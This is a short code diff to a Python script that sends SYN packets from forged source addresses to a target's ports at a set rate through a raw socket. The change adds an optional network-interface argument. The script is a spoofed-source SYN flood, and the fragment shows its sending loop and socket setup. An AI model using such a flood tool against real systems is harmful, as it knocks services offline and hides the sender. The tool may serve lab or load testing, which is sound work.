@@ -4,7 +4,7 @@
 
 """Sends SYN packets from forged sources, each to the same ports, at a rate, until its standard input ends.
 
-Usage: flood.py TARGET_MAC TARGET PORT,... SOURCES RATE. Prints how many packets it has sent, and in how many seconds.
+Usage: flood.py TARGET_MAC TARGET PORT,... SOURCES RATE [INTERFACE]. Prints how many packets it has sent, and in how many seconds.
 """
 
 import os
@@ -50,12 +50,12 @@ def _without(checksum: int, number: int) -> int:
 
 def main() -> None:
     """Send."""
-    target_mac, target, ports, sources, rate = sys.argv[1:]
+    target_mac, target, ports, sources, rate, interface = [*sys.argv[1:], "eth0"][:6]
     each = [frames(target_mac, target, int(port), int(sources)) for port in ports.split(",")]
     made = [frame for of_source in zip(*each, strict=True) for frame in of_source]
     made *= -(-_BURST // len(made))
     out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
-    out.bind(("eth0", 0))
+    out.bind((interface, 0))
     print("ready", flush=True)
     sent, begun = 0, time.monotonic()
     while not select.select([0], [], [], 0)[0] or os.read(0, 1):
